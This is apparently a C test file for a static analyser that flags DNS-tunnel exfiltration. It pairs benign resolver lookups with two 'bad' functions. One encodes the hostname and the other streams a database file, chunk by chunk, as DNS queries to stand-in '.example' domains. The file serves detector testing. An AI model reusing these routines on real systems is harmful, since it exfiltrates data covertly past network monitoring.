/* Data become labels of a name that a resolver is asked for. */
#include <arpa/nameser.h>
#include <netdb.h>
#include <netinet/in.h>
#include <resolv.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void to_label(const unsigned char *from, size_t size, char *label) {
    static const char digits[] = "abcdefghijklmnop";
    for (size_t i = 0; i < size; i++) {
        *label++ = digits[from[i] >> 4];
        *label++ = digits[from[i] & 15];
    }
    *label = 0;
}

static int look_up(const char *name) {
    struct addrinfo *found = NULL;
    int status = getaddrinfo(name, NULL, NULL, &found);
    if (status == 0)
        freeaddrinfo(found);
    return status;
}

int bad_hello(void) {
    char host[32] = "", label[80], question[256];
    struct addrinfo *found = NULL;
    gethostname(host, sizeof host);
    to_label((unsigned char *)host, strlen(host), label);
    snprintf(question, sizeof question, "%s.img.cdn-assets.example", label);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/dns-tunnel]}}
    return getaddrinfo(question, "80", NULL, &found);
}

/* A file, in pieces, through the resolver's own interface. */
int bad_pieces(void) {
    unsigned char block[24], answer[512];
    char label[64], question[256];
    size_t got;
    unsigned number = 0;
    FILE *file = fopen("/var/lib/meter/calls.db", "rb");
    while (file && (got = fread(block, 1, sizeof block, file)) > 0) {
        to_label(block, got, label);
        snprintf(question, sizeof question, "%s.%u.q.meter-sync.example", label, number++);
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/dns-tunnel]}}
        res_query(question, ns_c_in, ns_t_txt, answer, sizeof answer);
    }
    return file ? fclose(file) : -1;
}

/* Every mail server asks a list of bad addresses about who connects. */
int good_list(int peer) {
    unsigned char address[64];
    struct sockaddr_in who;
    socklen_t size = sizeof who;
    char question[128];
    if (getpeername(peer, (struct sockaddr *)&who, &size))
        return -1;
    memcpy(address, &who.sin_addr, 4);
    snprintf(question, sizeof question, "%u.%u.%u.%u.zen.lists.example", address[3], address[2],
             address[1], address[0]);
    return look_up(question) == 0;
}

/* A host that wants to know its own full name. */
int good_self(char *full, size_t room) {
    char host[64];
    struct addrinfo hints = {.ai_flags = AI_CANONNAME}, *found = NULL;
    gethostname(host, sizeof host);
    if (getaddrinfo(host, NULL, &hints, &found))
        return -1;
    snprintf(full, room, "%s", found->ai_canonname);
    freeaddrinfo(found);
    return 0;
}
